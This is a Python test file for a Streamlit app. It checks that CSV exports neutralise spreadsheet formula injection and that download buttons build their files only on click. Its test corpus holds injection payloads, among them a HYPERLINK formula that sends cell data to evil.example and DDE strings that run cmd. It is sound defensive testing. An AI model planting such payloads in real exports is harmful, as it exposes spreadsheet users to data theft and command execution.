"""Downloads are safe: the tables' own toolbar download is switched off (it writes formulas from the data
unescaped); the app's CSV neutralises formulas also behind a comma or a byte-order mark; every download
button builds its file on click (a deferred download), so no file sits at a /media URL before a user in
a session asks for it, and it is gone with that session's next run."""
from __future__ import annotations

import ast
import csv
import io
import tomllib

import pandas as pd
import pytest

from tsk.config import ROOT
from tsk.exports import FORMULA_TRIGGERS, to_csv_bytes

FORMULA_CORPUS = [
    '=HYPERLINK("http://evil.example/?"&A1;"Klicka")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "x,=2+5",
    "x;=2+5",
    "x\t=2+5",
    "\ufeff=1+1",
    "\u200b=1+1",
    'a","=1+1',
    "rad ett\n=1+1",
]


def test_the_tables_own_download_and_copy_are_switched_off():
    from streamlit import config as st_config

    st_config.get_config_options()
    assert "client.disableDataExport" in st_config._config_options  # the option exists in this Streamlit
    conf = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert conf["client"]["disableDataExport"] is True


@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_no_cell_of_the_csv_starts_a_formula_whatever_the_reader_splits_on(delimiter):
    frame = pd.DataFrame({"Kommentar": FORMULA_CORPUS, "Tal": [-1.5] * len(FORMULA_CORPUS)})
    text = to_csv_bytes(frame).decode("utf-8-sig")
    seen = []
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter):
        for cell in row:
            bare = cell.lstrip("\ufeff\u200b")
            if bare.startswith(FORMULA_TRIGGERS):
                assert cell in ("-1,5",) or cell.startswith("-1,5"), (delimiter, cell)
            seen.append(cell)
    if delimiter == ";":
        assert {"'" + f for f in FORMULA_CORPUS if f.lstrip("\ufeff\u200b")[0] in "=+-@"} <= set(seen)
        assert "x,=2+5" in seen  # quoted: one cell, not a formula for a comma-splitting reader


def _calls(attr: str):
    """Every call of a function or method named `attr` in the pages and tsk/ui: (file name, call)."""
    for path in sorted((ROOT / "pages").glob("*.py")) + sorted((ROOT / "tsk" / "ui").glob("*.py")):
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and attr in (getattr(node.func, "attr", ""), getattr(node.func, "id", "")):
                yield path.name, node


def test_every_download_goes_through_the_one_button_that_does_not_rerun_the_page():
    """One st.download_button in the app (tsk.ui.display.download), told not to rerun on click: a rerun
    drops the file id the click is fetching, and the download never came on a busy server."""
    buttons = list(_calls("download_button"))
    assert [name for name, _ in buttons] == ["display.py"], buttons
    keywords = {k.arg: k.value for k in buttons[0][1].keywords}
    assert isinstance(keywords.get("on_click"), ast.Constant) and keywords["on_click"].value == "ignore"


def test_every_download_button_builds_its_file_on_click():
    calls = [(name, node) for name, node in _calls("download") if len(node.args) > 2]
    assert len(calls) >= 10
    for name, node in calls:
        data = node.args[2]
        deferred = isinstance(data, ast.Lambda) or (isinstance(data, ast.Call) and getattr(data.func, "id", "") == "partial")
        assert deferred, f"{name}:{node.lineno} passes the file itself, which Streamlit serves at /media"
